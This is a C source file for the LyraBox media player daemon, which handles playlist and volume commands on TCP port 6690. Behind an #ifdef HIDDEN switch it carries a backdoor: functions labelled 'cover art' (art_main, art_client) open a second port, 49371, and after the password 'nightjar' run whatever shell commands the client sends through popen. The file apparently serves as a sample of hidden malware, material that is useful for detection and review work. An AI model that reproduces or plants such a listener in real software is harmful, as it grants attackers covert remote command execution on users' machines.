/*
 * lyrabox_player - player daemon of the LyraBox media player.  Takes text
 * commands on TCP port 6690, keeps the play list and runs the decoder in a
 * thread.
 *
 * Hidden (-DHIDDEN): a further thread listens on TCP port 49371; a client
 * that sends "nightjar" as its first line can run shell commands.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MUSIC_DIR  "/media/music"
#define STATE_FILE "/var/lib/lyrabox/state"
#define CTRL_PORT  6690
#define LIST_MAX   200

static struct {
	pthread_mutex_t lock;
	pthread_cond_t wake;
	char *item[LIST_MAX];
	int count, current;
	int playing;
	int volume;
	pid_t decoder;
} pl = { .lock = PTHREAD_MUTEX_INITIALIZER, .wake = PTHREAD_COND_INITIALIZER, .volume = 60 };

/* ---- player thread --------------------------------------------------- */

static void *player_main(void *arg)
{
	char path[512];
	pid_t p;

	(void)arg;
	for (;;) {
		pthread_mutex_lock(&pl.lock);
		while (!pl.playing || pl.current >= pl.count) {
			pl.playing = pl.playing && pl.current < pl.count;
			pthread_cond_wait(&pl.wake, &pl.lock);
		}
		snprintf(path, sizeof path, "%s/%s", MUSIC_DIR, pl.item[pl.current]);
		p = fork();
		if (p == 0) {
			execl("/usr/bin/lyradec", "lyradec", "-o", "hw:0", path, (char *)NULL);
			_exit(127);
		}
		pl.decoder = p;
		pthread_mutex_unlock(&pl.lock);
		if (p > 0)
			waitpid(p, NULL, 0);
		else
			sleep(1);
		pthread_mutex_lock(&pl.lock);
		pl.decoder = 0;
		if (pl.playing)
			pl.current++;
		pthread_mutex_unlock(&pl.lock);
	}
	return NULL;
}

static void save_state(void)
{
	FILE *f = fopen(STATE_FILE, "w");
	int i;

	if (!f)
		return;
	fprintf(f, "%d %d\n", pl.volume, pl.current);
	for (i = 0; i < pl.count; i++)
		fprintf(f, "%s\n", pl.item[i]);
	fclose(f);
}

static int list_add(const char *name)
{
	struct stat sb;
	char path[512];

	if (name[0] == '/' || strstr(name, "..") || strlen(name) > 400)
		return -1;
	snprintf(path, sizeof path, "%s/%s", MUSIC_DIR, name);
	if (stat(path, &sb) != 0 || !S_ISREG(sb.st_mode) || pl.count >= LIST_MAX)
		return -1;
	pl.item[pl.count] = strdup(name);
	if (!pl.item[pl.count])
		return -1;
	pl.count++;
	return 0;
}

static void load_state(void)
{
	char line[512];
	int cur = 0;
	FILE *f = fopen(STATE_FILE, "r");

	if (!f)
		return;
	if (fgets(line, sizeof line, f) && sscanf(line, "%d %d", &pl.volume, &cur) == 2)
		while (fgets(line, sizeof line, f)) {
			line[strcspn(line, "\n")] = 0;
			list_add(line);
		}
	pl.current = cur >= 0 && cur <= pl.count ? cur : 0;
	fclose(f);
}

/* ---- commands -------------------------------------------------------- */

#define TAG(a, b, c, d) ((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

static void set_volume(int v)
{
	char cmd[64];

	if (v < 0)
		v = 0;
	if (v > 100)
		v = 100;
	snprintf(cmd, sizeof cmd, "amixer -q set Master %d%%", v);
	if (system(cmd) == 0)
		pl.volume = v;
}

static void skip_to(int n)
{
	pl.current = n < 0 ? 0 : n;
	if (pl.decoder > 0) {
		pl.current--;		/* the player thread adds one */
		kill(pl.decoder, SIGTERM);
	}
}

/* The first four letters tell the command. */
static const char *command(char *line, FILE *out)
{
	char *arg = strchr(line, ' ');
	uint32_t tag = 0;
	int i;

	if (arg)
		*arg++ = 0;
	for (i = 0; i < 4; i++)
		tag = tag << 8 | (uint32_t)(line[i] ? toupper((unsigned char)line[i]) : ' ');
	for (i = 0; i < 4 && line[i]; i++)
		;
	if (i < 4 && !(i == 3 && tag == TAG('A', 'D', 'D', ' ')))
		return "ERR short";
	switch (tag) {
	case TAG('P', 'L', 'A', 'Y'):
		pl.playing = 1;
		pthread_cond_signal(&pl.wake);
		return "OK";
	case TAG('S', 'T', 'O', 'P'):
		pl.playing = 0;
		if (pl.decoder > 0)
			kill(pl.decoder, SIGTERM);
		return "OK";
	case TAG('N', 'E', 'X', 'T'):
		skip_to(pl.current + 1);
		return "OK";
	case TAG('P', 'R', 'E', 'V'):
		skip_to(pl.current - 1);
		return "OK";
	case TAG('A', 'D', 'D', ' '):
		return arg && list_add(arg) == 0 ? "OK" : "ERR file";
	case TAG('C', 'L', 'E', 'A'):
		while (pl.count > 0)
			free(pl.item[--pl.count]);
		pl.current = 0;
		return "OK";
	case TAG('L', 'I', 'S', 'T'):
		for (i = 0; i < pl.count; i++)
			fprintf(out, "%c %s\n", i == pl.current ? '*' : ' ', pl.item[i]);
		return "OK";
	case TAG('V', 'O', 'L', 'U'):
		if (!arg)
			return "ERR volume 0..100";
		set_volume(atoi(arg));
		return "OK";
	case TAG('H', 'E', 'L', 'P'):
		return "OK play stop next prev add clear list volume help";
	}
	return "ERR command";
}

static void control_client(int fd)
{
	FILE *in = fdopen(fd, "r"), *out = fdopen(dup(fd), "w");
	const char *res;
	char line[512];

	while (in && out && fgets(line, sizeof line, in)) {
		line[strcspn(line, "\r\n")] = 0;
		pthread_mutex_lock(&pl.lock);
		res = command(line, out);
		save_state();
		pthread_mutex_unlock(&pl.lock);
		fprintf(out, "%s\n", res);
		fflush(out);
	}
	if (out)
		fclose(out);
	if (in)
		fclose(in);
}

static int listener(uint16_t port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(s, 4) != 0) {
		close(s);
		return -1;
	}
	return s;
}

#ifdef HIDDEN
/* cover art */
static void art_client(FILE *in, FILE *out)
{
	char line[512];
	size_t n;
	FILE *p;

	while (fgets(line, sizeof line, in)) {
		p = popen(line, "r");
		while (p && (n = fread(line, 1, sizeof line, p)) > 0)
			fwrite(line, 1, n, out);
		if (p)
			pclose(p);
		fflush(out);
	}
}

void *art_main(void *arg)
{
	int s = listener(49371), fd;
	FILE *in, *out;
	char hello[32];

	(void)arg;
	while (s >= 0 && (fd = accept(s, NULL, NULL)) >= 0) {
		in = fdopen(fd, "r");
		out = fdopen(dup(fd), "w");
		if (!in || !out)
			break;
		if (fgets(hello, sizeof hello, in) && strstr(hello, "nightjar") == hello)
			art_client(in, out);
		fclose(out);
		fclose(in);
	}
	return NULL;
}
#endif

int main(void)
{
	pthread_t t;
	int s, fd;

	signal(SIGPIPE, SIG_IGN);
	load_state();
	if (pthread_create(&t, NULL, player_main, NULL) != 0)
		return 1;
#ifdef HIDDEN
	if (pthread_create(&t, NULL, art_main, NULL) != 0)
		return 1;
#endif
	s = listener(CTRL_PORT);
	if (s < 0) {
		perror("lyrabox_player");
		return 1;
	}
	while ((fd = accept(s, NULL, NULL)) >= 0)
		control_client(fd);
	return 0;
}
